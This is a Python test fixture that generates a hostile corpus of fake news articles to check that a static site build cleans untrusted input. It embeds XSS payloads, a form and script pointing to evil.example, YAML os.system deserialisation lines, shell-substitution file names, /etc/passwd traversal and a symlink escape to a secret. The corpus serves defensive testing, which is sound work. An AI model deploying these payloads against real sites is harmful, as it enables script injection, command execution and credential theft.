"""Write a hostile corpus (issue #3, "Untrusted input") into a folder, at test time.

Some cases cannot live in the repository as files (names that are not UTF-8, symlinks, a
20 MB file, binary data), so the corpus is generated. ``write_corpus`` returns a ``Case`` per
input file saying what the build must do with it:

- ``article``: it must be rendered; ``title`` (when not None) is the exact expected title and
  every string in ``phrases`` must appear, decoded, as visible text of its page.
- ``skip``: it must be skipped with exactly one message naming it, whose reason contains
  ``reason``.

Every legitimate article is realistic (a headline, a byline and several paragraphs of 25+
words) so the cleaner keeps it; payloads sit in the headline and inside body paragraphs.
"""

from __future__ import annotations

import codecs
import os
import zlib
from dataclasses import dataclass, field
from pathlib import Path

# Strings that must never reach the site as live markup, script, template or link.
PAYLOADS: dict[str, str] = {
    "script": '<script>alert("xss-script")</script>',
    "img_onerror": "<img src=x onerror=alert('xss-onerror')>",
    "svg_onload": "<svg onload=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style": "<style>body{display:none}</style>",
    "base": '<base href="https://evil.example/">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    "md_js_link": "[read more](javascript:alert(1))",
    "md_js_mixed": "[read more](JaVaScRiPt:alert(1))",
    "md_js_padded": "[read more](  \tjavascript:alert(1) )",
    "md_js_entity": "[read more](&#106;&#97;vascript:alert(1))",
    "md_js_hex_entity": "[read more](&#x6A;avascript&#x3A;alert(1))",
    "md_vbscript": "[read more](vbscript:msgbox(1))",
    "md_data_image": "![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md_autolink": "<javascript:alert(1)>",
    "md_ref_link": "[read more][evil]",
    "attr_list": "{: onclick=\"alert('attr')\" }",
    "md_in_html": '<div markdown="1">*emphasised* text</div>',
    "snippet": '--8<-- "/etc/passwd"',
    "jinja": "{{ config.site_name }} {{ 7*7 }}",
    "jinja_block": "{% include 'base.html' %}",
    "liquid": "{% raw %}{{ page.title }}{% endraw %} {%- if true -%}",
    "html_comment": "<!-- hidden --> <![CDATA[ x ]]>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;",
}
# Lines placed alone in the body (a reference-style definition only works on its own line).
STANDALONE = (
    "[evil]: javascript:alert('ref')",
    "[evil2]: data:text/html,<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert('standalone')>",
    '--8<-- "/etc/passwd"',
    '<div markdown="1">',
    "{: #id onclick=\"alert('attr-block')\" }",
    "</div>",
)
SECRET = "SECRET-7f3a9c-MUST-NOT-LEAK"

_SENTENCES = (
    "Officials in the capital said on Thursday that the talks would continue next week despite "
    "growing pressure from opposition lawmakers and a series of protests outside the ministry.",
    "The government spokesman told reporters that the proposal had been discussed at length with "
    "regional partners, who broadly welcomed the plan but asked for more detail on its funding.",
    "Analysts said the decision reflected a wider shift in policy that began last year, when the "
    "finance ministry warned that spending on defence and energy subsidies could not be sustained.",
    "Several members of parliament criticised the timing of the announcement, arguing that the "
    "public had not been consulted and that the budget figures were published far too late.",
    "According to the statement, the delegation will travel to the region at the end of the month "
    "to meet local leaders, business representatives and the heads of several aid organisations.",
    "Residents interviewed in the old market district said they were worried about rising prices "
    "for bread, fuel and electricity, which have almost doubled since the beginning of the winter.",
)


def paragraphs(topic: str, n: int = 4) -> list[str]:
    """``n`` realistic body paragraphs that all mention ``topic``."""
    out = []
    for i in range(n):
        a = _SENTENCES[i % len(_SENTENCES)]
        b = _SENTENCES[(i + 2) % len(_SENTENCES)]
        out.append(f"{a} The {topic} question was raised again during the meeting. {b}")
    return out


def article_text(title: str, topic: str, extra: list[str] | None = None, n: int = 4) -> str:
    """A saved page: headline twice, a byline, then body paragraphs (``extra`` spliced in)."""
    body = paragraphs(topic, n)
    extra = extra or []
    lines = [title, "", title, "By Jane Doe and Omar Haddad, 8 February 2024", ""]
    for i, para in enumerate(body):
        lines += [para, ""]
        if i < len(extra):
            lines += [extra[i], ""]
    lines += [e + "\n" for e in extra[len(body) :]]
    return "\n".join(lines) + "\n"


def sloppy_cp1252(data: bytes) -> str:
    """``data`` read as Windows-1252 the way browsers do (undefined bytes kept as C1 controls)."""
    out = []
    for b in data:
        try:
            out.append(bytes([b]).decode("cp1252"))
        except UnicodeDecodeError:
            out.append(chr(b))
    return "".join(out)


@dataclass(frozen=True)
class Case:
    """One input file and what the build must do with it."""

    seed: str  # the name the generator shows (relative path, printable)
    kind: str  # "article" or "skip"
    title: str | None = None  # exact expected title, when pinned
    phrases: tuple[str, ...] = ()  # decoded text that must be visible on the page
    reason: str = ""  # for "skip": part of the reason
    payload: str | None = None  # payload carried in the title / body
    tags: tuple[str, ...] = field(default=())


def _write(folder: Path, name: str | bytes, data: bytes) -> None:
    if isinstance(name, bytes):
        path = os.path.join(os.fsencode(folder), name)
        with open(path, "wb") as fh:
            fh.write(data)
    else:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)


def _payload_cases(folder: Path) -> list[Case]:
    cases = []
    for key, payload in PAYLOADS.items():
        topic = f"Kestrel{key.replace('_', '')}"
        title = f"Ministers clash over {payload} in {topic} budget row"
        extra = [
            f"In a statement, the ministry quoted the letter: {payload} and said the {topic} row "
            "would be settled by the finance committee before the summer recess begins next month.",
            payload,
            "Critics of the plan wrote " + payload + " on banners carried through the streets of the old "
            "city during a march that organisers said drew several thousand people on Saturday.",
        ]
        text = article_text(title, topic, extra, n=4)
        name = f"payload_{key}.txt"
        _write(folder, name, text.encode("utf-8"))
        # The same payload as a sidecar-provided title (exact title known, whatever the extractor does).
        side_title = f"Sidecar {payload} title for {topic}"
        _write(folder, f"sidecar_{key}.txt", article_text(f"The {topic} report in full", topic).encode())
        side = f"title: {_yaml_str(side_title)}\nsource: {_yaml_str('Outlet ' + payload)}\n"
        side += f"authors: [{_yaml_str('Author ' + payload)}]\nurl: {_yaml_str('javascript:alert(1)')}\n"
        _write(folder, f"sidecar_{key}.yml", side.encode())
        phrase = f"{topic} row would be settled"
        cases.append(Case(name, "article", None, (phrase,), payload=payload, tags=("payload",)))
        cases.append(
            Case(f"sidecar_{key}.txt", "article", side_title, (f"The {topic} question",), payload=payload,
                 tags=("payload", "sidecar"))
        )
    # A page whose standalone lines are reference definitions, raw HTML blocks and attr lists.
    topic = "Kestrelstandalone"
    text = article_text(f"Standalone markup test for the {topic} inquiry", topic, list(STANDALONE), n=5)
    _write(folder, "payload_standalone.txt", text.encode())
    cases.append(Case("payload_standalone.txt", "article", None, (f"The {topic} question",), tags=("payload",)))
    return cases


def _yaml_str(text: str) -> str:
    """A double-quoted YAML scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _yaml_cases(folder: Path) -> list[Case]:
    titles = {
        "yaml_dashes": "--- Breaking --- the ministry responds",
        "yaml_colon": "Budget: what the minister said: a summary",
        "yaml_hash": "Talks resume # despite objections from the opposition",
        "yaml_quotes": "The \"final\" offer and the 'last' word in the dispute",
        "yaml_backslash": "Path C:\\Users\\minister\\ leaks \\n and \\\" in a memo",
        "yaml_doc": "...\n--- !!python/object/apply:os.system ['touch PWNED-title']",
    }
    cases = []
    for key, title in titles.items():
        topic = f"Kestrel{key.replace('_', '')}"
        first = title.splitlines()[-1]
        _write(folder, f"{key}.txt", article_text(first, topic).encode())
        cases.append(Case(f"{key}.txt", "article", None, (f"The {topic} question",), tags=("yaml",)))
    # The sidecar that tries to run a command: never executed, one clear message, article still built.
    _write(folder, "sidecar_exec.txt", article_text("Sidecar execution attempt in the Kestrelexec case",
                                                    "Kestrelexec").encode())
    _write(folder, "sidecar_exec.yml", b"title: !!python/object/apply:os.system ['touch PWNED-sidecar']\n")
    cases.append(Case("sidecar_exec.txt", "article", None, ("The Kestrelexec question",), tags=("sidecar_exec",)))
    # Sidecar with a YAML-hostile title (exact title known).
    side_title = "--- a: b # c \"d\" 'e' \\f\\ {g} [h] |i> &j *k !l %m @n `o`"
    _write(folder, "sidecar_yaml.txt", article_text("The Kestrelsideyaml report", "Kestrelsideyaml").encode())
    _write(folder, "sidecar_yaml.yml", f"title: {_yaml_str(side_title)}\n".encode())
    cases.append(Case("sidecar_yaml.txt", "article", side_title, ("The Kestrelsideyaml question",), tags=("sidecar",)))
    return cases


def _name_cases(folder: Path) -> list[Case]:
    cases = []
    specs: list[tuple[str | bytes, str, str, str]] = [
        # (file name, shown seed, title, topic)
        ("traversal.txt", "traversal.txt", "../../etc/passwd and ../../../root/.ssh/id_rsa leak report", "Kestreltrav"),
        ("dup_a.txt", "dup_a.txt", "Parliament approves the new energy subsidy plan", "Kestreldupa"),
        ("dup_b.txt", "dup_b.txt", "Parliament approves the new energy subsidy plan", "Kestreldupb"),
        ("dup_c.txt", "dup_c.txt", "Parliament Approves The New Energy Subsidy Plan!", "Kestreldupc"),
        ("long_title.txt", "long_title.txt",
         " ".join(["Extraordinarily"] + ["lengthy headline about regional diplomacy"] * 6), "Kestrellong"),
        ("arabic.txt", "arabic.txt", "العراق يبحث تعزيز التعاون العسكري مع روسيا", "Kestrelarabic"),
        ("cyrillic.txt", "cyrillic.txt", "Россия предлагает Ираку военное сотрудничество", "Kestrelcyr"),
        ("controls.txt", "controls.txt", "Bidi \u202egnp.exe\u202c and \x1b[31mred\x1b[0m control \x07 title",
         "Kestrelctl"),
        ("with spaces in name.txt", "with spaces in name.txt", "File names with spaces are fine", "Kestrelspace"),
        ("$(touch pwned-subst).txt", "$(touch pwned-subst).txt", "Shell substitution in a file name", "Kestrelsubst"),
        ("a;b|c&d `touch pwned-tick`.txt", "a;b|c&d `touch pwned-tick`.txt", "Shell metacharacters in a name",
         "Kestrelmeta"),
        ("<img src=x onerror=alert(1)>.txt", "<img src=x onerror=alert(1)>.txt", "Markup in a file name",
         "Kestrelmarkupname"),
        ("new\nline\x1b[2J.txt", "new\\x0aline\\x1b[2J.txt", "Control characters in a file name", "Kestrelctlname"),
        (b"caf\xe9 latin1 name.txt", "caf\\xe9 latin1 name.txt", "A file name that is not UTF-8", "Kestrellatin"),
        (b"caf\xe8 latin1 name.txt", "caf\\xe8 latin1 name.txt", "Another file name that is not UTF-8",
         "Kestrellatintwo"),
        ("index.txt", "index.txt", "Index", "Kestrelindex"),
        ("about.txt", "about.txt", "About", "Kestrelabout"),
        ("search.txt", "search.txt", "Search", "Kestrelsearch"),
        ("sub/dir/nested.txt", "sub/dir/nested.txt", "A nested input in a sub folder", "Kestrelnested"),
    ]
    for name, seed, title, topic in specs:
        if name in ("index.txt", "about.txt", "search.txt"):
            # Titles that slugify to generated names; pinned by sidecar so the slug is known.
            _write(folder, name, article_text(f"The {topic} edition", topic).encode())
            stem = str(name)[:-4]
            _write(folder, f"{stem}.yml", f"title: {title}\n".encode())
            cases.append(Case(seed, "article", title, (f"The {topic} question",), tags=("reserved",)))
            continue
        _write(folder, name, article_text(title, topic).encode("utf-8"))
        cases.append(Case(seed, "article", None, (f"The {topic} question",), tags=("name",)))
    # Symlinks: one pointing outside the seeds folder (never followed), one inside (fine).
    outside = folder.parent / "outside-secret.txt"
    outside.write_text(article_text(f"Secret outside file {SECRET}", "Kestrelsecret",
                                    [f"The secret is {SECRET} and must not leak."]), encoding="utf-8")
    (folder / "link_outside.txt").symlink_to(outside)
    cases.append(Case("link_outside.txt", "skip", reason="symlink"))
    (folder / "link_dir").symlink_to(folder.parent, target_is_directory=True)  # a directory link: not walked
    (folder / "link_inside.txt").symlink_to(folder / "arabic.txt")
    cases.append(Case("link_inside.txt", "article", None, ("The Kestrelarabic question",), tags=("name",)))
    (folder / "dangling.txt").symlink_to(folder / "does-not-exist.txt")
    cases.append(Case("dangling.txt", "skip", reason=""))
    return cases


def _encoding_cases(folder: Path, big: bool) -> list[Case]:
    cases = []

    def text(topic: str, title: str, special: str) -> str:
        return article_text(title, topic, [f"{special} The {topic} letter was read aloud to the committee "
                                           "members, who listened in silence before voting on the motion."])

    special = "The minister’s “final” offer of €5 million for the café was rejected."
    utf8 = text("Kestrelutf", "Café owners reject the minister’s offer", special)
    cases_spec: list[tuple[str, bytes, str]] = [
        ("enc_utf8.txt", utf8.encode("utf-8"), special),
        ("enc_utf8_bom.txt", codecs.BOM_UTF8 + text("Kestrelbom", "Café owners and a BOM", special).encode(), special),
        ("enc_utf16le_bom.txt", text("Kestrelsixteen", "Café owners in UTF-16", special).encode("utf-16"), special),
        ("enc_utf16be_bom.txt", codecs.BOM_UTF16_BE + text("Kestrelsixbe", "Café owners big endian", special)
         .encode("utf-16-be"), special),
        ("enc_cp1252.txt", text("Kestrelwin", "Café owners in Windows code page", special).encode("cp1252"), special),
        ("enc_crlf.txt", text("Kestrelcrlf", "Carriage returns in the café", special).replace("\n", "\r\n")
         .encode(), special),
        ("enc_cr_only.txt", text("Kestrelcr", "Old Mac line endings in the café", special).replace("\n", "\r")
         .encode(), special),
    ]
    for name, data, phrase in cases_spec:
        _write(folder, name, data)
        cases.append(Case(name, "article", None, (phrase,), tags=("encoding",)))
    # Mojibake: UTF-8 read as cp1252 and saved again as UTF-8 (must be repaired).
    moj_para = "Iraq’s foreign minister said the country’s “sovereignty” was not negotiable."
    moj = text("Kestrelmoji", "Iraq’s leaders respond to the strikes", moj_para)
    _write(folder, "enc_mojibake.txt", sloppy_cp1252(moj.encode("utf-8")).encode("utf-8"))
    cases.append(Case("enc_mojibake.txt", "article", None, (moj_para,), tags=("encoding",)))
    # A single invalid byte in UTF-8 text.
    bad = text("Kestrelbad", "One bad byte in the café report", special).encode()
    bad = bad.replace(b"rejected.", b"rejected\xff.", 1)
    _write(folder, "enc_invalid_byte.txt", bad)
    cases.append(Case("enc_invalid_byte.txt", "article", None, ("The minister’s “final” offer of €5 million",),
                      tags=("encoding",)))
    # NUL bytes sprinkled in.
    nul = text("Kestrelnul", "Null bytes in the café report", special).replace("committee", "commit\x00tee")
    _write(folder, "enc_nul.txt", nul.encode())
    cases.append(Case("enc_nul.txt", "article", None, ("committee members",), tags=("encoding",)))
    # One line of 100,000 characters inside an otherwise normal article.
    long_line = ("wordy " * 17_000)[:100_000]
    _write(folder, "long_line.txt", article_text("A very long line in the Kestrellongline file", "Kestrellongline",
                                                 [long_line]).encode())
    cases.append(Case("long_line.txt", "article", None, ("The Kestrellongline question",), tags=("size",)))
    # Not articles.
    _write(folder, "empty.txt", b"")
    cases.append(Case("empty.txt", "skip", reason="empty"))
    _write(folder, "whitespace.txt", b" \n\t\r\n   \n\n")
    cases.append(Case("whitespace.txt", "skip", reason="whitespace"))
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
    _write(folder, "image.txt", png)
    cases.append(Case("image.txt", "skip", reason="binary"))
    _write(folder, "random_binary.txt", bytes((i * 7919 + 13) % 256 for i in range(20_000)))
    cases.append(Case("random_binary.txt", "skip", reason="binary"))
    _write(folder, "compressed.txt", zlib.compress(b"x" * 1000) * 20)
    cases.append(Case("compressed.txt", "skip", reason=""))
    if big:
        # 20 MB of text: published text is capped and the page says so.
        paras = paragraphs("Kestrelbig", 6)
        chunk = ("\n\n".join(paras) + "\n\n").encode()
        head = b"The Kestrelbig report: a twenty megabyte file\n\nBy Jane Doe, 8 February 2024\n\n"
        data = head + chunk * (20 * 1024 * 1024 // len(chunk) + 1)
        _write(folder, "big_20mb.txt", data[: 20 * 1024 * 1024])
        cases.append(Case("big_20mb.txt", "article", None, ("The Kestrelbig question",), tags=("size", "big")))
    return cases


def write_corpus(folder: Path, *, big: bool = True) -> list[Case]:
    """Fill ``folder`` (created if needed) with the hostile corpus; return what to expect."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = _payload_cases(folder) + _yaml_cases(folder) + _name_cases(folder) + _encoding_cases(folder, big)
    # A sidecar with no article and a file of another type: reported, not silently dropped.
    _write(folder, "orphan.yml", b"title: nobody reads me\n")
    cases.append(Case("orphan.yml", "skip", reason="sidecar"))
    _write(folder, "notes.pdf", b"%PDF-1.4 not an article")
    cases.append(Case("notes.pdf", "skip", reason="not an input file"))
    return cases


def benign_corpus(folder: Path) -> None:
    """Two ordinary articles: their build shows which scripts Material itself adds."""
    folder.mkdir(parents=True, exist_ok=True)
    _write(folder, "one.txt", article_text("Ministers agree the new budget plan", "Kestrelone").encode())
    _write(folder, "two.txt", article_text("Parliament debates the energy subsidy", "Kestreltwo").encode())
